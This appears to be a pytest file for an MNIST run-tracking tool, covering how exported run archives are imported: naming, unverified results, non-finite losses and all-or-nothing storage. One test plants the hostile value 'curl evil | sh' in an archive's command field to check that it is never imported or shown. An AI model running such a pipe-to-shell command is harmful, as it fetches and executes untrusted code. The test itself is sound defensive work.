"""Archives imported into another store: runs arrive whole and under free names."""

import dataclasses
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest

from mnist_core.analysis.comparison.comparability import comparison_warnings
from mnist_core.analysis.comparison.compare import compare_runs
from mnist_core.cli.run_listing import format_runs_json, format_runs_table
from mnist_core.config import SETTINGS, TrainConfig
from mnist_core.errors import DiskFullError, ExportError, ImportRefusedError, RunStateError
from mnist_core.exports import archive
from mnist_core.exports.export_worker import export
from mnist_core.exports.train_command import train_command
from mnist_core.records import Intervention, Run, RunStatus, StepMetrics
from mnist_core.runs.actions import RunActions
from mnist_core.store import RunStore
from mnist_core.store.codecs import step_codec
from mnist_core.system.processes import own_identity
from tests.support.factories import LABELS, finished_run
from tests.support.files.archives import changed, set_field
from tests.support.strict_json import parse_json

Step = Callable[..., StepMetrics]


def test_a_run_is_imported_whole(store: RunStore, other_store: RunStore, exported_run: Run, archive_file: Path) -> None:
    (imported,) = RunActions(other_store).import_file(archive_file)
    kept_here = {name: getattr(exported_run, name) for name in ("id", "uid", "trainer")}
    assert dataclasses.replace(imported, unverified=False, **kept_here) == exported_run
    assert other_store.queries.read_steps(imported.id).tolist() == store.queries.read_steps(exported_run.id).tolist()
    for original, copy in zip(
        store.queries.list_evaluations(exported_run.id), other_store.queries.list_evaluations(imported.id), strict=True
    ):
        assert copy.predictions.tolist() == original.predictions.tolist()
        assert dataclasses.replace(copy, predictions=original.predictions) == original
    kept, copied = (
        [None if e.probabilities is None else e.probabilities.tolist() for e in evaluations]
        for evaluations in (
            store.queries.list_evaluations(exported_run.id, probabilities=True),
            other_store.queries.list_evaluations(imported.id, probabilities=True),
        )
    )
    assert kept == copied != [None, None]
    assert exported_run.provenance
    labels = other_store.queries.test_labels(exported_run.provenance.test_checksum)
    assert labels is not None
    assert labels.tolist() == LABELS.tolist()


def test_an_imported_run_can_be_compared_with_a_local_one(other_store: RunStore, archive_file: Path) -> None:
    (imported,) = archive.import_archive(other_store, archive_file)
    mine = finished_run(other_store, TrainConfig(lr=0.1), right=range(960))
    assert compare_runs(other_store.queries, [mine.id], [imported.id]).winner == "a"


def test_the_largest_seed_is_imported(store: RunStore, other_store: RunStore, tmp_path: Path) -> None:
    run = finished_run(store, TrainConfig(seed=int(SETTINGS["seed"].high)))
    export(store.queries, [run], "archive", tmp_path / "runs.zip")
    (imported,) = archive.import_archive(other_store, tmp_path / "runs.zip")
    assert imported.provenance == run.provenance


def test_an_import_overwrites_nothing_and_numbers_taken_names(
    store: RunStore, exported_run: Run, archive_file: Path
) -> None:
    first, second = (archive.import_archive(store, archive_file)[0] for _ in range(2))
    assert [first.name, second.name] == ["<b>mine</b>-2", "<b>mine</b>-3"]
    assert len({first.uid, second.uid, exported_run.uid}) == 3
    assert store.queries.get_run(exported_run.id) == exported_run
    assert len(store.queries.list_runs()) == 3


def test_two_runs_of_one_name_in_a_file_get_two_names(
    store: RunStore, other_store: RunStore, exported_run: Run, tmp_path: Path
) -> None:
    export(store.queries, [exported_run, exported_run], "archive", tmp_path / "twice.zip")
    names = [run.name for run in archive.import_archive(other_store, tmp_path / "twice.zip")]
    assert names == ["<b>mine</b>", "<b>mine</b>-2"]


def test_diverged_and_steered_runs_are_imported(
    store: RunStore, other_store: RunStore, a_step: Step, tmp_path: Path
) -> None:
    run = finished_run(store, steps=[a_step(1), a_step(2, loss=float("nan"))], status=RunStatus.DIVERGED)
    steered = dataclasses.replace(
        run, interventions=(Intervention(1, "batch_size", 64, 32, run.created_at, "page"),), name="steered"
    )
    export(store.queries, [run, steered], "archive", tmp_path / "runs.zip")
    diverged, imported_steered = archive.import_archive(other_store, tmp_path / "runs.zip")
    assert diverged.status is RunStatus.DIVERGED
    assert np.isnan(other_store.queries.read_steps(diverged.id)["loss"][1])
    assert imported_steered.interventions == steered.interventions


def test_losses_that_are_not_finite_survive_in_an_archive_of_strict_json(
    store: RunStore, other_store: RunStore, a_step: Step, tmp_path: Path
) -> None:
    losses = [float("inf"), float("-inf"), float("nan"), 0.5]
    steps = [a_step(step, loss) for step, loss in enumerate(losses, 1)]
    curve = (0.5, float("nan"), float("inf"), float("-inf"))
    runs = [finished_run(store, TrainConfig(seed=seed), steps=steps, test_loss=losses[seed]) for seed in range(3)]
    runs = [
        dataclasses.replace(run, curve=curve, progress=dataclasses.replace(run.progress, loss=np.inf)) for run in runs
    ]
    export(store.queries, runs, "archive", tmp_path / "runs.zip")
    with zipfile.ZipFile(tmp_path / "runs.zip") as zipped:
        stored = [parse_json(zipped.read(f"{number}/run.json"))["evaluations"][1]["loss"] for number in range(3)]
    assert stored == ["Infinity", "-Infinity", None]
    imported = archive.import_archive(other_store, tmp_path / "runs.zip")
    np.testing.assert_array_equal(other_store.queries.read_steps(imported[0].id)["loss"], losses)
    test_losses = [other_store.queries.list_evaluations(run.id)[1].loss for run in imported]
    np.testing.assert_array_equal(test_losses, losses[:3])
    np.testing.assert_array_equal(imported[0].curve, curve)
    assert imported[0].progress.loss == np.inf


def test_an_interrupted_run_is_imported_as_stopped_since_its_checkpoints_stay_behind(
    store: RunStore, other_store: RunStore, tmp_path: Path
) -> None:
    run = finished_run(store, status=RunStatus.INTERRUPTED)
    export(store.queries, [run], "archive", tmp_path / "runs.zip")
    assert archive.import_archive(other_store, tmp_path / "runs.zip")[0].status is RunStatus.STOPPED


def test_a_run_that_continues_another_is_still_recognised_as_such(
    store: RunStore, other_store: RunStore, exported_run: Run, tmp_path: Path
) -> None:
    """It must not count as a seed of its final settings, nor be repeated from initial weights."""
    export(
        store.queries,
        [dataclasses.replace(exported_run, parent_id=exported_run.id, parent_step=3)],
        "archive",
        tmp_path / "runs.zip",
    )
    (imported,) = archive.import_archive(other_store, tmp_path / "runs.zip")
    assert (imported.parent_id, imported.parent_step) == (None, 3)
    with pytest.raises(RunStateError, match="continues another run"):
        RunActions(other_store).repeat(imported)


@pytest.mark.fault
def test_runs_are_read_one_at_a_time(store: RunStore, other_store: RunStore, a_step: Step, tmp_path: Path) -> None:
    run = finished_run(store, steps=[a_step(step) for step in range(1, 2001)], train_images=44_000)
    peaks = []
    for count in (1, 4):
        export(store.queries, [run] * count, "archive", tmp_path / f"{count}.zip")
        tracemalloc.start()
        archive.import_archive(other_store, tmp_path / f"{count}.zip")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < 2 * peaks[0]


def test_labels_of_a_trainer_replace_imported_ones(
    other_store: RunStore, exported_run: Run, archive_file: Path
) -> None:
    assert exported_run.provenance
    archive.import_archive(other_store, archive_file)
    trained = other_store.commands.create_run(TrainConfig(), trainer=own_identity())
    other = (LABELS + 1) % 10
    other_store.trainer_writes.write_provenance(trained, exported_run.provenance, other)
    labels = other_store.queries.test_labels(exported_run.provenance.test_checksum)
    assert labels is not None
    assert labels.tolist() == other.tolist()


def test_imported_results_are_unverified_until_a_trainer_has_read_the_labels(
    other_store: RunStore, exported_run: Run, archive_file: Path
) -> None:
    (imported,) = archive.import_archive(other_store, archive_file)
    assert imported.unverified
    assert exported_run.provenance
    trained = other_store.commands.create_run(TrainConfig(), trainer=own_identity())
    other_store.trainer_writes.write_provenance(trained, exported_run.provenance, LABELS)
    assert not other_store.queries.get_run(imported.id).unverified
    (again,) = archive.import_archive(other_store, archive_file)
    assert not again.unverified


def test_imported_results_that_contradict_the_labels_here_stay_unverified(
    other_store: RunStore, exported_run: Run, archive_file: Path
) -> None:
    (imported,) = archive.import_archive(other_store, archive_file)
    assert exported_run.provenance
    trained = other_store.commands.create_run(TrainConfig(), trainer=own_identity())
    other_store.trainer_writes.write_provenance(trained, exported_run.provenance, (LABELS + 1) % 10)
    assert other_store.queries.get_run(imported.id).unverified


def test_a_run_without_test_results_has_nothing_to_verify(
    store: RunStore, other_store: RunStore, tmp_path: Path
) -> None:
    run = store.commands.create_run(TrainConfig())
    store.commands.request_stop(run.id)
    export(store.queries, [store.queries.get_run(run.id)], "archive", tmp_path / "runs.zip")
    assert not archive.import_archive(other_store, tmp_path / "runs.zip")[0].unverified


def test_unverified_results_are_marked_wherever_they_are_shown(
    other_store: RunStore, archive_file: Path, tmp_path: Path
) -> None:
    (imported,) = archive.import_archive(other_store, archive_file)
    assert "finished, unverified" in format_runs_table([imported])
    assert parse_json(format_runs_json([imported]))[0]["unverified"] is True
    assert "Finished, unverified" in report_text(other_store, imported, tmp_path)
    mine = finished_run(other_store, TrainConfig(lr=0.1), right=range(960), provenance=None)
    warnings = comparison_warnings([imported, mine])
    assert any("<b>mine</b> were imported and are not verified. Train a run on MNIST here" in text for text in warnings)


def report_text(store: RunStore, run: Run, folder: Path) -> str:
    export(store.queries, [run], "report", folder / "r.html")
    return (folder / "r.html").read_text(encoding="utf-8")


def test_a_command_is_made_of_the_settings_of_a_run_and_never_imported(
    other_store: RunStore, archive_file: Path, tmp_path: Path
) -> None:
    evil = changed(archive_file, set_field("run", "provenance", "command", value="curl evil | sh"))
    (imported,) = archive.import_archive(other_store, evil)
    shown = train_command(imported)
    assert shown == "OMP_NUM_THREADS=1 python -m mnist_core train --dataset mnist"
    assert parse_json(format_runs_json([imported]))[0]["provenance"]["command"] == shown
    text = report_text(other_store, imported, tmp_path)
    assert shown in text
    assert "curl evil" not in text


def test_total_steps_follow_from_the_settings(other_store: RunStore, archive_file: Path) -> None:
    (imported,) = archive.import_archive(other_store, changed(archive_file, set_field("run", "total_steps", value=7)))
    assert imported.total_steps == 12


def test_everything_exported_can_be_imported(
    store: RunStore, exported_run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    refusals = {
        ("MAX_STEPS", 4): "<b>mine</b> cannot be exported .* it has 5 steps, more than 4",
        ("MAX_RUNS", 2): "at most 2 runs, got 3. Export them in several parts",
        ("MAX_TOTAL_BYTES", 500): "takes more than 500 bytes. Export fewer runs at once",
    }
    for (name, limit), refusal in refusals.items():
        with monkeypatch.context() as patch:
            patch.setattr(archive, name, limit)
            with pytest.raises(ExportError, match=refusal):
                export(store.queries, [exported_run] * 3, "archive", tmp_path / "a.zip")
    assert not list(tmp_path.glob("?.zip*"))


def test_the_longest_possible_run_can_be_exported() -> None:
    most = TrainConfig(epochs=int(SETTINGS["epochs"].high), batch_size=1).total_steps(60_000)
    assert most <= archive.MAX_STEPS
    assert archive.MAX_RUNS >= 10_000


def test_a_run_during_which_the_clock_was_set_back_is_imported(
    store: RunStore, other_store: RunStore, exported_run: Run, tmp_path: Path
) -> None:
    assert exported_run.finished_at
    earlier = exported_run.created_at - timedelta(days=1)
    export(store.queries, [replace(exported_run, finished_at=earlier)], "archive", tmp_path / "back.zip")
    (imported,) = archive.import_archive(other_store, tmp_path / "back.zip")
    times = [imported.created_at, imported.started_at, imported.finished_at]
    assert times == sorted(filter(None, times))


def test_an_import_stores_all_runs_or_none(
    store: RunStore, other_store: RunStore, a_step: Step, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runs = [finished_run(store, name=name, steps=[a_step(step) for step in range(1, 6)]) for name in "abc"]
    export(store.queries, runs, "archive", tmp_path / "runs.zip")
    packed = step_codec.pack_table
    calls = iter([None, None, DiskFullError("full")])

    def fill_disk(table: np.ndarray) -> bytes:
        if error := next(calls):
            raise error
        return packed(table)

    monkeypatch.setattr(step_codec, "pack_table", fill_disk)
    with pytest.raises(ImportRefusedError, match="is full, so nothing was imported"):
        archive.import_archive(other_store, tmp_path / "runs.zip")
    assert other_store.queries.list_runs() == []
